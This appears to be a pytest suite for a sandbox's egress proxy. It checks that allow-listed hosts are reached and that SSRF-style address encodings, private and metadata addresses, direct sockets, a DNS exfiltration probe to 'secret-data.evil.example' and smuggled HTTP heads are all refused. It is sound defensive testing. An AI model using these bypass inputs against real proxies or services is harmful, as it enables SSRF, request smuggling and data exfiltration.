"""The only way out: what is allowed arrives, everything else is told why not, and nothing leaks beside it."""

import asyncio
import json
import ssl
from collections.abc import AsyncIterator, Callable
from pathlib import Path

import pytest

from mortice.obs.audit_verify import records
from mortice.sandbox import Egress, Limits, Sandboxes, SandboxSpec
from mortice.sandbox.box import Box
from mortice.sandbox.egress_rules import Denied, Rules, check_addresses
from mortice.sandbox.images import find_image
from mortice.sandbox.provision import AUTHORITIES
from mortice.specs.errors import RequestError

FETCH = """
import json, urllib.request, urllib.error
def fetch(url, data=None):
    try:
        with urllib.request.urlopen(url, data=data, timeout=20) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()
    except OSError as error:
        return type(error).__name__, str(error)
"""


class Site:
    """A server on loopback that the tests' resolver gives a public name."""

    def __init__(self) -> None:
        self.seen: list[bytes] = []
        self.port = 0

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        self.seen.append(head)
        body = b"x" * 3_000_000 if b"/big" in head else b"hello"
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
        await writer.drain()
        writer.close()


@pytest.fixture
async def site() -> AsyncIterator[Site]:
    found = Site()
    async with await asyncio.start_server(found.serve, "127.0.0.1", 0) as server:
        found.port = server.sockets[0].getsockname()[1]
        yield found


async def open_box(boxes: Sandboxes, site: Site, **egress: object) -> Box:
    looked_up: list[str] = []

    async def resolve(name: str, port: int) -> list[str]:
        looked_up.append(name)
        return {
            "site.example": ["127.0.0.1"],
            "inside.example": ["10.0.0.7"],
            "mixed.example": ["1.1.1.1", "169.254.169.254"],
        }.get(name, [])

    boxes.resolve = resolve
    boxes.check_addresses = lambda name, found: (
        found[0] if name == "site.example" else check_addresses(name, found)
    )
    allow = tuple(
        f"{n}:{site.port}" for n in ("site.example", "inside.example", "mixed.example", "*.wild.example")
    )
    spec = SandboxSpec(
        backend="gvisor",
        limits=Limits(memory_bytes=256 << 20),
        egress=Egress(mode="allowlist", allow=allow, **egress),  # type: ignore[arg-type]
    )
    box = await boxes.create(spec)
    box.looked_up = looked_up  # type: ignore[attr-defined]
    assert (await box.run_cell(FETCH, cell_id="fetch")).ok
    return box


async def ask(box: Box, url: str, cell_id: str) -> tuple[object, str]:
    result = await box.run_cell(
        f"s, t = fetch({url!r}); s, t[:400] if len(t) < 10_000 else str(len(t))", cell_id=cell_id
    )
    status, text = eval(result.value or "(None, '')")
    return status, text


async def test_what_is_allowed_arrives_and_the_rest_is_told_why(boxes: Sandboxes, site: Site) -> None:
    box = await open_box(boxes, site)
    assert await ask(box, f"http://site.example:{site.port}/a?b=c", "a") == (200, "hello")
    assert site.seen[0].startswith(b"GET /a?b=c HTTP/1.1\r\nHost: site.example:")
    status, text = await ask(box, f"http://site.example:{site.port}/big", "big")
    assert (status, text) == (200, "3000000")
    for n, (url, rule) in enumerate(
        [
            ("http://evil.example/", "not_on_allow_list"),
            (f"http://site.example:{site.port + 1}/", "not_on_allow_list"),
            (f"http://127.0.0.1:{site.port}/", "no_address_literals"),
            (f"http://2130706433:{site.port}/", "no_address_literals"),
            (f"http://0x7f.1:{site.port}/", "no_address_literals"),
            (f"http://[::1]:{site.port}/", "no_address_literals"),
            (f"http://inside.example:{site.port}/", "private_address"),
            (f"http://mixed.example:{site.port}/", "private_address"),
            (f"http://no.wild.example:{site.port}/", "no_such_name"),
            (f"http://wild.example:{site.port}/", "not_on_allow_list"),
        ]
    ):
        status, text = await ask(box, url, f"deny{n}")
        assert status == 403, (url, status, text)
        assert json.loads(text)["rule"] == rule, url
        assert json.loads(text)["hint"]
    assert "evil.example" not in box.looked_up, "a name that is not allowed is not looked up"  # type: ignore[attr-defined]
    assert len(site.seen) == 2
    chain = [r for r in records(boxes.home.audit, box.record.id) if r["kind"] == "egress"]
    assert [r["decision"] for r in chain] == ["allow", "allow"] + ["deny"] * 10


async def test_a_guest_checks_tls_by_the_image_s_authorities_or_its_own(
    boxes: Sandboxes, tmp_path: Path, certificate: Callable[[Path, str], Path]
) -> None:
    """Through the proxy TLS is the guest's own affair: it has the public authorities, and ours is none of them."""
    image = find_image("base")
    if image is None or not (image.root / AUTHORITIES).exists():
        pytest.skip("the guests' image is an earlier one; `mortice sandbox setup` makes it anew")
    pem = certificate(tmp_path / "site.pem", "site.example")
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(pem)
    site = Site()
    async with await asyncio.start_server(site.serve, "127.0.0.1", 0, ssl=context) as server:
        site.port = server.sockets[0].getsockname()[1]
        box = await open_box(boxes, site)
        look = "import ssl; c = ssl.create_default_context(); (len(c.get_ca_certs()) > 100, open(CA).read().count('BEGIN'))"
        found = await box.run_cell(f"CA = '/{AUTHORITIES}'\n{look}", cell_id="authorities")
        trusted, num_authorities = eval(found.value or "(False, 0)")
        assert trusted, found
        assert num_authorities > 100
        url = f"https://site.example:{site.port}/"
        refused = await ask(box, url, "stranger")
        assert refused[0] == "URLError"
        assert "CERTIFICATE_VERIFY_FAILED" in refused[1]
        public = pem.read_text()[pem.read_text().index("-----BEGIN CERTIFICATE") :]
        await box.write("/work/ca.pem", public.encode())
        code = f"urllib.request.urlopen({url!r}, context=ssl.create_default_context(cafile='/work/ca.pem')).read()"
        assert (await box.run_cell(code, cell_id="known")).value == "b'hello'"
        assert len(site.seen) == 1, "nothing was sent to a stranger"


async def test_there_is_no_way_beside_the_proxy(boxes: Sandboxes, site: Site) -> None:
    box = await open_box(boxes, site)
    code = f"""
import socket
def attempt(call):
    try:
        call()
        return 'OUT'
    except OSError as error:
        return type(error).__name__
udp = lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))
tcp = lambda: socket.create_connection(('1.1.1.1', 443), 2)
host = lambda: socket.create_connection(('127.0.0.1', {site.port}), 2)
v6 = lambda: socket.create_connection(('2606:4700:4700::1111', 443), 2)
dns = lambda: socket.getaddrinfo('secret-data.evil.example', 443)
raw = lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
packet = lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
vsock = lambda: socket.socket(40, socket.SOCK_STREAM)
[attempt(f) for f in (udp, tcp, host, v6, dns, raw, packet, vsock)]
"""
    result = await box.run_cell(code, cell_id="a")
    assert "OUT" not in (result.value or "OUT"), result
    assert site.seen == []


async def test_smuggled_and_malformed_heads_are_refused(boxes: Sandboxes, site: Site) -> None:
    box = await open_box(boxes, site)
    host = f"site.example:{site.port}"
    heads = [
        f"GET http://{host}/ HTTP/1.1\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\nabc",
        f"GET http://{host}/ HTTP/1.1\r\nUpgrade: websocket\r\n\r\n",
        f"GET http://{host}/ HTTP/1.1\nX: y\r\n\r\n",
        "GET /relative HTTP/1.1\r\n\r\n",
        f"GET http://user:pw@{host}/ HTTP/1.1\r\n\r\n",
        "CONNECT site.example HTTP/1.1\r\n\r\n",
        "CONNECT site.example:99999 HTTP/1.1\r\n\r\n",
        f"GET ftp://{host}/ HTTP/1.1\r\n\r\n",
        f"GET http://{host}/ HTTP/2\r\n\r\n",
        "\x00\x01\x02\r\n\r\n",
        "A" * 70_000,
    ]
    for n, head in enumerate(heads):
        code = (
            "import socket\ns = socket.create_connection(('127.0.0.1', 3128), 10)\n"
            f"s.sendall({head!r}.encode())\ns.settimeout(10)\ndata = s.recv(100)\ns.close()\ndata.split(b'\\r')[0]"
        )
        result = await box.run_cell(code, cell_id=f"h{n}")
        assert result.value == "b'HTTP/1.1 400 Bad Request'", (head[:60], result)
    assert site.seen == []


async def test_budgets_are_denials_too(boxes: Sandboxes, site: Site) -> None:
    box = await open_box(boxes, site, max_bytes=4_000_000)
    url = f"http://site.example:{site.port}/"
    assert (await ask(box, url, "a"))[0] == 200
    assert (await ask(box, url + "big", "b"))[0] == 200
    code = f"try:\n    got = len(fetch('{url}big')[1])\nexcept Exception as e:\n    got = repr(e)\ngot"
    assert (await box.run_cell(code, cell_id="c")).value != "3000000"
    status, text = await ask(box, url, "d")
    assert (status, json.loads(text)["rule"]) == (403, "byte_budget")
    other = await open_box(boxes, site, max_requests_per_minute=1)
    assert (await ask(other, url, "a"))[0] == 200
    status, text = await ask(other, url, "b")
    assert (status, json.loads(text)["rule"]) == (403, "request_budget")


async def test_a_snapshot_with_an_open_connection_drops_it_and_lives(boxes: Sandboxes, site: Site) -> None:
    box = await open_box(boxes, site)
    await box.run_cell(
        "import socket\ns = socket.create_connection(('127.0.0.1', 3128), 10)\ns.settimeout(5)", cell_id="a"
    )
    snapshot = await box.snapshot()
    again = await boxes.restore(snapshot)
    assert (await again.run_cell("s.recv(10)", cell_id="b")).value == "b''"
    assert await ask(again, f"http://site.example:{site.port}/", "c") == (200, "hello")


def test_rules_that_cannot_be_are_told() -> None:
    for rule in ("example.org", "example.org:0", "10.0.0.1:80:x", "bad name:80", "*:443"):
        with pytest.raises(RequestError):
            Rules(Egress(mode="allowlist", allow=(rule,)))
    with pytest.raises(RequestError):
        Rules(Egress(mode="allowlist"))
    public = Rules(Egress(mode="public"))
    assert public.check_name("Example.ORG.", 443) == "example.org"
    with pytest.raises(Denied):
        public.check_name("example.org", 25)


@pytest.mark.parametrize(
    "address",
    ["127.0.0.1", "10.1.2.3", "169.254.169.254", "100.64.0.1", "0.0.0.0", "224.0.0.1", "::1", "fe80::1%eth0", "fd00::1",
     "::ffff:10.0.0.1", "2002:7f00:1::", "255.255.255.255"],
)  # fmt: skip
def test_addresses_that_are_not_public(address: str) -> None:
    with pytest.raises(Denied):
        check_addresses("x.example", ["93.184.216.34", address])
